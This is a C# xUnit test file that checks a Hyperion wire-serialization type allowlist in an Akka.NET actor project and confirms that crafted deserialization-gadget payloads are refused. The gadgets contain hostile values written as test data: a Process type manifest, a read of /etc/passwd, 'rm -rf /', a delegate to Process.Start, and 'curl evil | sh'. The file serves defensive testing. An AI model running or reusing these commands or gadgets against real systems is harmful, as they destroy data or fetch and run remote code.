using System.Reflection;
using System.Runtime.Serialization;
using System.Text;
using ActorFarm.Manifest;
using ActorFarm.Protocol;
using ActorFarm.Serialization;
using Akka.Actor;
using Xunit;
using Hyperion;
using Hyperion.ValueSerializers;
using Xunit.Abstractions;

namespace ActorFarm.Tests.Serialization;

public class WireAllowlistTests(SerializationSystem serialization, ITestOutputHelper output)
    : SerializerTestBase(serialization, output)
{
    [Fact]
    public void Every_wire_message_type_is_allowed()
    {
        var missing = Samples.ConcreteTypes<IWireMessage>().Where(t => !WireTypeAllowlist.IsAllowed(t)).Select(t => t.FullName);

        Assert.Empty(missing);
        Assert.Contains(typeof(ActorRefSurrogate), WireTypeAllowlist.AllowedTypes);
    }

    [Fact]
    public void Every_type_a_wire_message_can_carry_is_allowed()
    {
        // Walked here independently of the allowlist's own derivation: from every wire message,
        // public or internal, through every field (the concrete subtypes of an abstract field
        // type, array elements, nullables, dictionary arguments). A field of a type the
        // allowlist leaves out (a plain class, a List<T>, an exception) fails here, naming the
        // path to it, before any message carrying it fails on the wire.
        var missing = WireReachable().Where(p => !WireTypeAllowlist.IsAllowed(p.Key)).Select(p => $"{p.Value}: {p.Key}");

        Assert.Empty(missing);
        Assert.Contains(typeof(ActorRefSurrogate), WireTypeAllowlist.AllowedTypes);
    }

    [Fact]
    public void Nothing_but_what_a_wire_message_can_carry_is_allowed()
    {
        // Public or not, a type the protocol cannot carry is not on the wire: journal events and
        // snapshots have their own serializer, results rows and settings never travel.
        var reachable = WireReachable().Keys.Append(typeof(ActorRefSurrogate)).ToHashSet();
        var farmAssembly = typeof(IWireMessage).Assembly;

        var extra = WireTypeAllowlist.AllowedTypes
            .Where(t => (t.IsArray ? t.GetElementType()! : t).Assembly == farmAssembly && !reachable.Contains(t))
            .Select(t => t.FullName);

        Assert.Empty(extra);
        Assert.False(WireTypeAllowlist.IsAllowed(typeof(ActorFarm.Persistence.JobSnapshot)));
        Assert.False(WireTypeAllowlist.IsAllowed(typeof(ActorFarm.Persistence.JobAccepted)));
    }

    /// <summary>Every type reachable from a concrete wire message, with the first field path that reaches it.</summary>
    private static Dictionary<Type, string> WireReachable()
    {
        var farmAssembly = typeof(IWireMessage).Assembly;
        var concrete = farmAssembly.GetTypes().Where(t => t is { IsAbstract: false, IsInterface: false }).ToList();
        var reached = new Dictionary<Type, string>();
        var pending = new Queue<(Type Type, string Path)>(Samples.ConcreteTypes<IWireMessage>().Select(t => (t, t.Name)));
        while (pending.TryDequeue(out var next))
        {
            var (type, path) = next;
            type = Nullable.GetUnderlyingType(type) ?? type;
            if (type == typeof(IActorRef) || reached.ContainsKey(type))
                continue; // an actor ref travels as ActorRefSurrogate
            if (type.IsAbstract || type.IsInterface)
            {
                if (type.Assembly != farmAssembly)
                    reached[type] = path; // never an instance: an abstract BCL type cannot be allowed
                foreach (var sub in concrete.Where(type.IsAssignableFrom))
                    pending.Enqueue((sub, $"{path} as {sub.Name}"));
                continue;
            }
            reached[type] = path;
            if (type.IsArray)
                pending.Enqueue((type.GetElementType()!, path + "[]"));
            else if (type.IsGenericType)
                foreach (var argument in type.GetGenericArguments())
                    pending.Enqueue((argument, $"{path}<{argument.Name}>"));
            else if (type.Assembly == farmAssembly && !type.IsEnum)
                foreach (var field in type.GetFields(BindingFlags.Instance | BindingFlags.Public | BindingFlags.NonPublic))
                    pending.Enqueue((field.FieldType, $"{path}.{field.Name}"));
        }
        return reached;
    }

    [Fact]
    public void Every_field_of_an_allowed_type_can_itself_cross_the_wire()
    {
        var farmAssembly = typeof(IWireMessage).Assembly;
        var problems = new List<string>();
        foreach (var type in WireTypeAllowlist.AllowedTypes.Where(t => t.Assembly == farmAssembly && !t.IsEnum))
        {
            foreach (var field in type.GetFields(BindingFlags.Instance | BindingFlags.Public | BindingFlags.NonPublic))
            {
                var fieldType = Nullable.GetUnderlyingType(field.FieldType) ?? field.FieldType;
                if (fieldType == typeof(IActorRef))
                    continue; // travels as ActorRefSurrogate
                var candidates = fieldType.IsAbstract || fieldType.IsInterface
                    ? farmAssembly.GetTypes().Where(t => !t.IsAbstract && fieldType.IsAssignableFrom(t)).ToList()
                    : [fieldType];
                problems.AddRange(candidates.Where(t => !WireTypeAllowlist.IsAllowed(t))
                    .Select(t => $"{type.Name}.{field.Name}: {t.FullName}"));
            }
        }

        Assert.Empty(problems);
    }

    [Fact]
    public void Nothing_with_behaviour_and_nothing_foreign_is_allowed()
    {
        Type[] forbidden = [typeof(Exception), typeof(ActorBase), typeof(IDisposable), typeof(Delegate), typeof(Attribute)];
        var farmAssembly = typeof(IWireMessage).Assembly;

        foreach (var type in WireTypeAllowlist.AllowedTypes)
        {
            var element = type.IsArray ? type.GetElementType()! : type;
            Assert.DoesNotContain(forbidden, f => f.IsAssignableFrom(element));
            Assert.True(element.Assembly == farmAssembly || element.Assembly == typeof(object).Assembly,
                $"{type.FullName} comes from {element.Assembly.GetName().Name}");
        }
    }

    [Fact]
    public void The_known_types_table_is_the_allowlist_without_the_surrogate_with_field_types_first()
    {
        var known = WireTypeAllowlist.KnownTypes;
        var position = known.Select((t, i) => (t, i)).ToDictionary(p => p.t, p => p.i);

        Assert.Equal(WireTypeAllowlist.AllowedTypes.Except([typeof(ActorRefSurrogate)]).ToHashSet(), known.ToHashSet());
        Assert.Equal(known.Count, position.Count);
        foreach (var type in known.Where(t => t.Assembly == typeof(IWireMessage).Assembly))
        {
            foreach (var field in type.GetFields(BindingFlags.Instance | BindingFlags.Public | BindingFlags.NonPublic))
            {
                if (position.TryGetValue(field.FieldType, out var at))
                    Assert.True(at < position[type], $"{field.FieldType.Name} must precede {type.Name}");
            }
        }
        Output?.WriteLine(string.Join(Environment.NewLine, known.Select(t => t.FullName)));
    }

    public static TheoryData<string> Gadgets() => new(GadgetPayloads.Keys);

    [Theory]
    [MemberData(nameof(Gadgets))]
    public void A_payload_naming_a_type_outside_the_allowlist_is_refused(string gadget)
    {
        var (payload, refusedTypeName) = GadgetPayloads[gadget]();

        var error = Assert.Throws<SerializationException>(() => WireSerializer.FromBinary(payload, null));

        Assert.Contains(refusedTypeName, error.Message);
        Assert.Contains("allowlist", error.Message);
    }

    [Fact]
    public void A_payload_of_allowed_types_from_an_unfiltered_peer_is_accepted()
    {
        // The control for the refusals: the same crafting path with allowed types only passes,
        // so the refusals are the filter's doing. (RegisterNode: a type name, the surrogate's,
        // really travels.)
        var message = Samples.Wire["RegisterNode"](TestActor);

        DeepEqual.AssertEqual(message, WireSerializer.FromBinary(Craft(message), null));
    }

    /// <summary>Payloads as an attacker would craft them (<see cref="UnfilteredHyperion"/>).</summary>
    private static readonly Dictionary<string, Func<(byte[] Payload, string RefusedTypeName)>> GadgetPayloads = new()
    {
        // Hyperion cannot even write a Process, so its manifest is written by hand.
        ["process"] = () => (NamedObject("System.Diagnostics.Process, System.Diagnostics.Process"), "System.Diagnostics.Process"),
        ["file-info"] = () => (Craft(new FileInfo("/etc/passwd")), "System.IO.FileInfo"),
        ["foreign record"] = () => (Craft(new Smuggled("rm -rf /")), nameof(Smuggled)),
        ["unlisted BCL type"] = () => (Craft(new List<string> { "a" }), "System.Collections.Generic.List`1"),
        // A delegate names its type, then the method it calls.
        ["delegate"] = () => (Craft(new Func<string, System.Diagnostics.Process?>(System.Diagnostics.Process.Start)), "System.Func`2"),
        // The envelope is a genuine SubmitJob; the gadget hides in a polymorphic field.
        ["nested in a sweep"] = () => (Craft(new SubmitJob("job-1", Samples.FullSpec() with
        {
            Sweep = new SweepSpec { Axes = [new RogueAxis { Name = "x", Command = "curl evil | sh" }] },
        })), nameof(RogueAxis)),
    };

    private static byte[] Craft(object value) => UnfilteredHyperion.Craft(value);

    /// <summary>An object manifest as Hyperion writes it: marker, Int32 length, UTF-8 type name; then junk.</summary>
    private static byte[] NamedObject(string typeName)
    {
        var name = Encoding.UTF8.GetBytes(typeName);
        return [ObjectSerializer.ManifestFull, .. BitConverter.GetBytes(name.Length), .. name, 0, 0, 0, 0];
    }

    public sealed record Smuggled(string Command);

    public sealed record RogueAxis : SweepAxis
    {
        public required string Command { get; init; }
    }
}
